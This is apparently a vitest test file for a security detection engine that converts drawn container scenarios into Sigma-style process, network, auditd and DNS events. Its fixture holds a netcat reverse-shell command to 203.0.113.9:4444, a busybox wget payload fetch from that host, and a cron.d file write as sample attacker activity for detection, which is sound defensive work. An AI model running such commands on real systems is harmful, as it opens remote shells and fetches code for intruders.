import { describe, expect, it } from 'vitest';
import { SCENARIO_START_US } from '../../../src/detections/scenario-case.js';
import { argumentWords, commandLines } from '../../../src/detections/sigma/events/command-line.js';
import type { HookCall, ProcessFileAccess } from '../../../src/model/detection-case.js';
import { drawn, eventsOf } from './cases.js';

const SHELL = drawn(`
  container web 10.0.0.10
  0       node server.js
  400       bash -i
  400.1       => nc -e /bin/sh 203.0.113.9 4444
  400.2       > tcp 203.0.113.9:4444
  401         > tcp 10.0.0.20:5432
  500     sh {entered}
  501       busybox wget http://203.0.113.9/x
  container db 10.0.0.20
  0       postgres
  1         listen tcp 5432
  401       < tcp 10.0.0.10:40000 on 5432
`);

/** The event of this class that the program's start makes. */
function started(className: string, name: string) {
  return eventsOf(SHELL, className).find((event) => event.values('Image')?.[0] === `/usr/bin/${name}`);
}

describe('a command line', () => {
  it.each([
    ['has the name, the path, and the arguments', '/bin/sh', '-c id', ['sh -c id', '/bin/sh -c id']],
    ['has no quotes that the capture added', '/bin/sh', '-c "id; ls"', ['sh -c id; ls', '/bin/sh -c id; ls', '/bin/sh -c "id; ls"']],
    ['without arguments is the name or the path', '/bin/sh', '', ['sh', '/bin/sh']],
    ['may begin with a space that the capture put there', '/bin/sh', ' "a b"', ['sh a b', '/bin/sh a b', '/bin/sh "a b"']],
    [
      'is also read with quotes inside the quotes',
      '/bin/sh',
      '-c "echo "a b" | sh"',
      [
        'sh -c echo "a b | sh"',
        '/bin/sh -c echo "a b | sh"',
        'sh -c echo "a b" | sh',
        '/bin/sh -c echo "a b" | sh',
        '/bin/sh -c "echo "a b" | sh"',
      ],
    ],
  ])('%s', (_, binary, text, expected) => {
    expect(commandLines({ binary, arguments: text })).toEqual(expected);
  });

  it.each([
    ['splits at spaces', '-a  b c', ['-a', 'b', 'c']],
    ['takes a quoted argument as one', '-c "id; ls" x', ['-c', 'id; ls', 'x']],
    ['leaves quotes that enclose no space', '-e "x"', ['-e', '"x"']],
    ['leaves a quote that is never closed', '-e "x y', ['-e', '"x', 'y']],
    ['leaves a quote inside a word', 'a="x y"', ['a="x', 'y"']],
  ])('%s', (_, text, expected) => {
    expect(argumentWords(text)).toEqual(expected);
  });
});

describe('a started program', () => {
  const [node, bash, netcat, busybox] = ['node', 'bash', 'nc', 'busybox'].map((name) => started('process_creation', name));

  it.each([
    ['Image', netcat, ['/usr/bin/nc']],
    ['CommandLine', netcat, ['nc -e /bin/sh 203.0.113.9 4444', '/usr/bin/nc -e /bin/sh 203.0.113.9 4444']],
    ['ParentImage', bash, ['/usr/bin/node']],
    ['ParentImage', netcat, ['/usr/bin/bash', '/usr/bin/node']],
    ['ParentCommandLine', bash, ['node server.js', '/usr/bin/node server.js']],
    ['ParentImage', node, undefined],
    ['ProcessId', netcat, ['101']],
    ['ParentProcessId', netcat, ['100']],
    ['UtcTime', netcat, ['2026-01-15T09:06:40.100Z']],
    ['ancestors', netcat, ['/usr/bin/bash', '/usr/bin/node']],
    ['ancestorCommandLines', bash, ['node server.js', '/usr/bin/node server.js']],
    ['late', node, ['false']],
    ['late', netcat, ['true', 'late']],
    ['late', busybox, ['true', 'entered']],
    ['lateBySeconds', bash, ['400']],
    ['entered', bash, ['false']],
    ['entered', busybox, ['true']],
    ['external', netcat, ['true']],
    ['external', node, ['false']],
    ['connectedTo', netcat, ['203.0.113.9', '203.0.113.9:4444', '10.0.0.20', '10.0.0.20:5432', 'db']],
    ['Container', netcat, ['web']],
    ['Tool', busybox, ['wget']],
    ['Image', busybox, ['/usr/bin/busybox', '/usr/bin/wget']],
    ['CommandLine', busybox, expect.arrayContaining(['busybox wget http://203.0.113.9/x', 'wget http://203.0.113.9/x'])],
    ['Hashes', netcat, undefined],
  ])('has the field %s', (field, event, expected) => {
    expect(event?.values(field)).toEqual(expected);
  });

  it('is not a fork that only carries its parent’s image', () => {
    const view = drawn('container web\n0  bash -i\n1    fork\n1.1    > tcp 203.0.113.9:1');
    expect(eventsOf(view, 'process_creation').length).toBe(1);
    expect(eventsOf(view, 'network_connection')[0]?.values('Image')).toEqual(['/usr/bin/bash']);
  });

  it('has users by name and number, and directories with and without a slash', () => {
    const view = drawn('container web\n0  id');
    const [process] = [...view.allProcesses()];
    const as = (more: object) => {
      const changed = process === undefined ? undefined : { ...process, ...more };
      const outlines = () => (changed === undefined ? [] : [changed]);
      return eventsOf({ ...view, outlines, process: () => changed }, 'process_creation')[0];
    };
    expect(as({ uid: 0 })?.values('User')).toEqual(['root', '0']);
    expect(as({ uid: 33, userName: 'www-data' })?.values('User')).toEqual(['www-data', '33']);
    expect(as({ auid: 4_294_967_295 })?.values('LogonId')).toEqual(['0']);
    expect(as({ auid: 1000 })?.values('LogonId')).toEqual(['1000']);
    expect(as({ cwd: '/var/tmp/' })?.values('CurrentDirectory')).toEqual(['/var/tmp', '/var/tmp/']);
    expect(as({ cwd: '/' })?.values('CurrentDirectory')).toEqual(['/']);
    expect(as({})?.values('CurrentDirectory')).toBeUndefined();
    expect(as({ images: [{ execId: 'x', knownFrom: 'exec', binary: '/tmp/nc (deleted)' }] })?.values('Image')).toEqual([
      '/tmp/nc (deleted)',
      '/tmp/nc',
    ]);
  });

  it('is an EXECVE record with a word of argv in each field', () => {
    const execve = started('auditd EXECVE', 'nc');
    expect(['type', 'a0', 'a1', 'a2', 'a5', 'argc'].map((field) => execve?.values(field))).toEqual([
      ['EXECVE'],
      ['nc', '/usr/bin/nc'],
      ['-e'],
      ['/bin/sh'],
      undefined,
      ['5'],
    ]);
  });

  it('is a SYSCALL record of execve', () => {
    const syscall = started('auditd SYSCALL of an execve', 'nc');
    expect(['type', 'SYSCALL', 'exe', 'comm', 'pid', 'key'].map((field) => syscall?.values(field))).toEqual([
      ['SYSCALL'],
      ['execve'],
      ['/usr/bin/nc'],
      ['nc'],
      ['101'],
      undefined,
    ]);
  });
});

describe('a connection', () => {
  const [out, , inbound] = eventsOf(SHELL, 'network_connection');

  it.each([
    ['Image', out, ['/usr/bin/nc']],
    ['Initiated', out, ['true']],
    ['DestinationIp', out, ['203.0.113.9']],
    ['DestinationPort', out, ['4444']],
    ['DestinationHostname', out, undefined],
    ['Protocol', out, ['tcp']],
    ['external', out, ['true']],
    ['DestinationScope', out, ['external']],
    ['connectedTo', out, ['203.0.113.9', '203.0.113.9:4444']],
    ['Initiated', inbound, ['false']],
    ['SourceIp', inbound, ['10.0.0.10']],
    ['DestinationPort', inbound, ['5432']],
    ['connectedTo', inbound, undefined],
  ])('has the field %s', (field, event, expected) => {
    expect(event?.values(field)).toEqual(expected);
  });

  it('has the names that its address was found under', () => {
    const connection = (id: number) => {
      const drawn = SHELL.connection(id);
      return drawn === undefined ? undefined : { ...drawn, remoteNames: [{ name: 'eu.pool.example', from: 'dns' as const }] };
    };
    const [event] = eventsOf({ ...SHELL, connection }, 'network_connection');
    expect(event?.values('DestinationHostname')).toEqual(['eu.pool.example']);
    expect(event?.values('connectedTo')).toContain('eu.pool.example');
  });
});

describe('files, names and system calls', () => {
  const evidence = { source: 'drawing', line: 1 };
  const access = (operation: ProcessFileAccess['operation'], path: string): ProcessFileAccess => ({
    processId: 0,
    operation,
    path,
    evidence,
    atUs: SCENARIO_START_US,
  });
  const call = (functionName: string): HookCall => ({ processId: 0, functionName, evidence });
  const view = drawn('container web\n0  bash -i', {
    allFileAccesses: () => [access('write', '/etc/cron.d/x'), access('read', '/etc/issue')],
    allHookCalls: () => [call('sys_mknod'), call('tcp_connect')],
    allDnsMessages: () => [
      {
        id: 1,
        process: { id: 0, execId: 'drawn-0-0', pid: 100 },
        node: 'node-1',
        kind: 'response',
        names: ['pool.example'],
        types: ['A'],
        ips: ['203.0.113.9'],
        rcode: 'NOERROR',
        evidence,
      },
    ],
  });

  it('have a file_event for what was written, and a file_access for all', () => {
    expect(eventsOf(view, 'file_event').map((event) => event.values('TargetFilename'))).toEqual([['/etc/cron.d/x']]);
    expect(eventsOf(view, 'file_access').map((event) => event.values('TargetFilename'))).toEqual([['/etc/cron.d/x'], ['/etc/issue']]);
  });

  it('have a PATH record that may be of a creation when the file was written', () => {
    expect(eventsOf(view, 'auditd PATH').map((event) => [event.values('name'), event.values('nametype')])).toEqual([
      [['/etc/cron.d/x'], ['NORMAL', 'CREATE']],
      [['/etc/issue'], ['NORMAL']],
    ]);
  });

  it('have a SYSCALL record for each hooked system call, and none for other functions', () => {
    expect(eventsOf(view, 'auditd SYSCALL of a hook').map((event) => [event.values('SYSCALL'), event.values('comm')])).toEqual([
      [['mknod'], ['bash']],
    ]);
  });

  it('have a dns_query in the words of Sysmon and of a name server', () => {
    const [event] = eventsOf(view, 'dns_query');
    expect(
      ['QueryName', 'query', 'QueryResults', 'answer', 'record_type', 'QueryStatus', 'Image'].map((field) => event?.values(field)),
    ).toEqual([['pool.example'], ['pool.example'], ['203.0.113.9'], ['203.0.113.9'], ['A'], ['NOERROR'], ['/usr/bin/bash']]);
  });
});
